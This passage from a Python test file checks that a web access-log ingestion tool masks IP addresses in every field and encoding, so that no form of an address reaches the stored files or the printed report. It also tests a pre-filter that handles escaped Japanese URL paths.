        "ua",
    )
    if field == "client":
        client = form
    elif field == "vhost":
        vhost = form
    elif field == "path":
        path = f"/x/{form}/y"
    elif field == "query":
        query = f"ip={form}&b=2"
    elif field == "protocol":
        proto = f"HTTP/{form}"
    elif field == "referrer":
        ref = f"http://{form}/r?from={form}"
    elif field == "agent":
        agent = f"bot/1.0 (+{form}) Chrome/116.0.5845.187"
    status = "two-hundred" if field == "rejected" else "200"
    line = (
        f'{vhost}:443 {client} - - [10/Oct/2026:13:55:36 +0000] "GET {path}?{query} {proto}" {status} 5 '
        f'"{ref}" "{agent}"'
    )
    if field == "rejected":
        line = line.replace("GET /", f"GET /{form}/")
    return line


def written_text(root: Path) -> bytes:
    """Every byte of every file under ``root``, and every decoded Parquet value."""
    chunks: list[bytes] = []
    for f in sorted(root.rglob("*")):
        if not f.is_file():
            continue
        data = f.read_bytes()
        chunks.append(data)
        if f.suffix == ".parquet":
            table = pq.read_table(f)
            chunks.append(json.dumps(table.to_pylist(), default=str).encode())
    return b"\n".join(chunks)


@settings(
    max_examples=25,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.lists(st.tuples(addresses(), form_choice), min_size=4, max_size=12))
def test_no_form_of_an_address_reaches_any_byte(cases: list[tuple[IPAddress, tuple[int, int, str]]]) -> None:
    lines: list[str] = []
    secret: set[str] = set()
    for n, (addr, (style, how, field)) in enumerate(cases):
        used = encode(render(addr, style), how)
        if field in ("client", "vhost") and how in (2, 3, 5, 11, 12, 13):
            used = render(addr, style)  # servers write these fields verbatim
        lines.append(log_line(field, used, n))
        secret |= needles(used, addr)
    with tempfile.TemporaryDirectory() as tmp:
        log = Path(tmp) / "access.log"
        log.write_text("".join(line + "\n" for line in lines))
        store = Path(tmp) / "store"
        report = ingest_paths(store, [log], fmt="vhost_combined", max_reject_rate=1.0)  # rejects on purpose
        assert not report.failed
        assert report.rows + sum(report.rejects.values()) == len(lines)
        # what the command prints (text and --json) and every byte under the store and its keys
        printed = (render_ingest(report) + json.dumps(report.to_dict(), default=str)).encode()
        everything = written_text(Path(tmp))
        assert log.read_bytes() in everything  # (the log itself is there: take it out)
        everything = everything.replace(log.read_bytes(), b"")
        for needle in sorted(secret):
            b = needle.encode()
            assert b not in everything, (needle, lines)
            assert b not in printed, (needle, lines)


def test_the_pre_filter_leaves_other_escaped_cjk_text_to_the_vectorised_scan() -> None:
    """Only the UTF-8 escapes that can spell an address send a value to the per-value masker: a
    Japanese site's paths (%E3%83%86…) would otherwise all take the slow path."""
    needs = pl.Series(
        ["/ja/%E3%83%86%E3%82%B9%E3%83%88", r"/ja/\xE3\x83\x86", "/a/%EF%BC%8E", "/b/%e3%80%82"]
    )
    assert needs.str.contains(NEEDS_MASK).to_list() == [False, False, True, True]
